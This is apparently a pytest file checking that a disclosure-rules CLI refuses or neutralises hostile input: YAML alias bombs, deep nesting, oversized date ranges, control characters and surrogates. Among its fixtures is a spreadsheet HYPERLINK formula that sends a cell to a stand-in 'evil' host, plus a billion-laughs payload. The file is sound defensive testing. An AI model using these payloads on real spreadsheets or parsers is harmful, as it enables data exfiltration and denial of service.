"""Hostile input through the installed command: limits, hygiene and the error boundary.

Each reproduction of issue 16 that belongs to the command line, the case runner or the
calendar reader ends in a diagnostic with its code, exit 0, 1 or 2, no traceback, within
10 s and 1 GB (set by the test on the child process).
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from installed import EXAMPLES, run

from disclosure_rules.errors import Diagnostic
from disclosure_rules.outputs.csv import neutralised
from disclosure_rules.outputs.text import MAX_DIAGNOSTICS_PER_FILE, capped, printable
from disclosure_rules.testing.cases import MAX_ALIAS_NODES, MAX_YAML_DEPTH
from disclosure_rules.workdays import MAX_RANGE_DAYS

Y = "yifeng-2020-townships"
FORMULA = '=HYPERLINK("http://evil/?q="&A1,"x")'
ESCAPES = "a\x1b[31mred\x07"


@pytest.fixture
def work(tmp_path: Path) -> Path:
    shutil.copy(EXAMPLES / f"{Y}.facts.json", tmp_path / "ex.json")
    return tmp_path


def hostile_facts(work: Path, *ids: str) -> str:
    """The example facts with the first units renamed to ``ids``."""
    doc = json.loads((work / "ex.json").read_text(encoding="utf-8"))
    for unit, uid in zip(doc["units"], ids, strict=False):
        unit["id"] = uid
    (work / "hostile.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return "hostile.json"


# ---------------------------------------------------------------- case files (YAML)


def test_a_billion_laughs_case_file_is_refused_quickly(work: Path) -> None:
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        levels.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    text = f"ruleset: {Y}\n" + "\n".join(levels) + "\ncases: [*i]\n"
    assert len(text.encode()) < 1000
    (work / "laughs.yaml").write_text(text, encoding="utf-8")
    result = run("test", "laughs.yaml", cwd=work)
    assert result.returncode == 1
    assert "laughs.yaml: error: DR602 aliases expand the case file by" in result.stderr
    assert f"the limit is {MAX_ALIAS_NODES:,}" in result.stderr


def test_a_self_containing_alias_is_refused(work: Path) -> None:
    (work / "self.yaml").write_text("x: &x [*x]\n", encoding="utf-8")
    result = run("test", "self.yaml", cwd=work)
    assert result.returncode == 1 and "DR602 an alias in the case file contains itself" in (
        result.stderr
    )


def test_a_deeply_nested_case_file_is_refused(work: Path) -> None:
    (work / "deep.yaml").write_text("a: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    result = run("test", "deep.yaml", cwd=work)
    assert result.returncode == 1
    assert f"DR603 the case file nests deeper than {MAX_YAML_DEPTH} levels" in result.stderr


def test_shared_defaults_by_alias_stay_within_the_bound(work: Path) -> None:
    text = f"""ruleset: {Y}
defaults: &d {{id: 新昌镇, tags: [township], facts: {{}}}}
cases:
  - name: one
    units: [*d]
    expect: {{新昌镇: {{total: 30}}}}
"""
    (work / "ok.yaml").write_text(text, encoding="utf-8")
    result = run("test", "ok.yaml", cwd=work)
    assert "DR602" not in result.stderr


def test_a_folder_without_case_files_is_an_error(work: Path) -> None:
    (work / "empty").mkdir()
    result = run("test", "empty", cwd=work)
    assert result.returncode == 1 and "DR311 no test cases found" in result.stderr


# ---------------------------------------------------------------- calendars


def test_a_calendar_range_of_ten_thousand_years_is_refused_quickly(work: Path) -> None:
    (work / "cal.json").write_text(
        '{"year": 2027, "holidays": ["0001-01-01..9999-12-31"]}', encoding="utf-8"
    )
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert (
        "DR605 range '0001-01-01..9999-12-31' spans 3,652,059 days; a schedule covers one "
        f"year, so a range is at most {MAX_RANGE_DAYS} days"
    ) in result.stderr


def test_a_range_ending_on_the_last_representable_day_is_not_an_overflow(work: Path) -> None:
    (work / "cal.json").write_text(
        '{"year": 2027, "holidays": ["9999-12-30..9999-12-31"]}', encoding="utf-8"
    )
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert "DR502 calendar for 2027: 9999-12-30 is not in 2027" in result.stderr


def test_a_deeply_nested_calendar_is_a_diagnostic(work: Path) -> None:
    (work / "cal.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert "DR603 the calendar file nests deeper than JSON can be read here" in result.stderr


# ---------------------------------------------------------------- output hygiene


def test_csv_cells_that_would_be_formulas_are_neutralised(work: Path) -> None:
    facts = hostile_facts(work, FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx")
    result = run("score", Y, facts, "--format", "csv", "-o", "out.csv", cwd=work)
    assert result.returncode == 0
    with open(work / "out.csv", encoding="utf-8", newline="") as fh:  # keep the \r cell
        rows = list(csv.DictReader(fh))
    units = {r["unit"] for r in rows}
    assert {"'" + FORMULA, "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx"} <= units
    assert all(not r["unit"].startswith(("=", "+", "-", "@")) for r in rows)


def test_numbers_the_tool_writes_are_not_neutralised() -> None:
    assert neutralised("-2") == "'-2"  # as text from the input it would be
    # … but scores are written as numbers, never through neutralised(): see outputs/csv.py
    assert neutralised("新昌镇") == "新昌镇"


@pytest.mark.parametrize("fmt", ["table", "explain"])
def test_control_characters_are_escaped_in_human_readable_output(work: Path, fmt: str) -> None:
    facts = hostile_facts(work, ESCAPES, "b\x00c")
    if fmt == "table":
        result = run("score", Y, facts, cwd=work)
    else:
        result = run("explain", Y, facts, "--unit", ESCAPES, cwd=work)
    assert result.returncode == 0
    assert "a\\x1b[31mred\\x07" in result.stdout
    assert fmt != "table" or "b\\x00c" in result.stdout
    assert not any(c in result.stdout for c in "\x1b\x07\x00")


def test_control_characters_are_escaped_in_diagnostics(work: Path) -> None:
    result = run("explain", Y, "ex.json", "--unit", ESCAPES, cwd=work)
    assert result.returncode == 1
    assert "a\\x1b[31mred\\x07" in result.stderr and "\x1b" not in result.stderr


def test_a_lone_surrogate_is_escaped_in_a_table_and_refused_in_json(work: Path) -> None:
    (work / "s.json").write_text(
        (work / "ex.json").read_text(encoding="utf-8").replace('"新昌镇"', '"\\ud800"', 1),
        encoding="utf-8",
    )
    table = run("score", Y, "s.json", cwd=work)
    assert table.returncode == 0 and "\\ud800" in table.stdout
    result = run("score", Y, "s.json", "--format", "json", cwd=work)
    assert result.returncode == 1
    assert "DR615 the output holds text no encoding can write (U+D800" in result.stderr
    result = run("score", Y, "s.json", "--format", "json", "-o", "out.json", cwd=work)
    assert result.returncode == 1 and "DR615" in result.stderr
    assert not (work / "out.json").exists()


def test_printable_leaves_ordinary_text_alone() -> None:
    text = "新昌镇  总分 total 88.63 / 100\n\t「附注1」"
    assert printable(text) is text or printable(text) == text


# ---------------------------------------------------------------- diagnostics cap


def test_diagnostics_are_capped_per_file() -> None:
    many = [Diagnostic("DR304", f"problem {i}", file="f.json") for i in range(120)]
    other = [Diagnostic("DR304", "elsewhere", file="g.json")]
    lines = capped([*many, *other]).splitlines()
    assert len(lines) == MAX_DIAGNOSTICS_PER_FILE + 2
    assert lines[-1] == (
        f"f.json: note: DR604 … and 70 more diagnostic(s) not shown (at most "
        f"{MAX_DIAGNOSTICS_PER_FILE} are printed per file)"
    )


def test_check_caps_its_diagnostics_through_the_command(work: Path) -> None:
    body = "".join(f'section s{i} "节" 5 {{ item a{i} "甲" 2 }}\n' for i in range(80))
    (work / "many.dr").write_text(f'ruleset m {{ title "t"\n{body}}}\n', encoding="utf-8")
    result = run("check", "many.dr", cwd=work)
    assert result.returncode == 1
    assert result.stderr.count("error: DR103") == MAX_DIAGNOSTICS_PER_FILE
    assert "many.dr: note: DR604 … and 30 more diagnostic(s) not shown" in result.stderr


# ---------------------------------------------------------------- the error boundary


def test_debug_shows_the_traceback(work: Path) -> None:
    result = run("verify", "/dev/zero", "--debug", cwd=work, check_traceback=False)
    assert result.returncode == 1
    assert "Traceback" in result.stderr and "DR600" in result.stderr


def test_usage_errors_exit_2(work: Path) -> None:
    assert run("score", Y, "ex.json", "--param", "x", cwd=work).returncode == 2
    assert run("explain", "--unit", "x", cwd=work).returncode == 2
    assert run("nonsense", cwd=work).returncode == 2


def test_an_unexpected_error_is_a_diagnostic_with_a_code(monkeypatch, capsys) -> None:
    from disclosure_rules import cli

    def broken(args: object) -> int:
        raise KeyError("boom")

    monkeypatch.setattr(cli, "_cmd_list", broken)
    assert cli.main(["list"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("disclosure-rules: error: DR620 unexpected error: KeyError: 'boom'")
    assert "--debug shows where it happened" in err and "Traceback" not in err
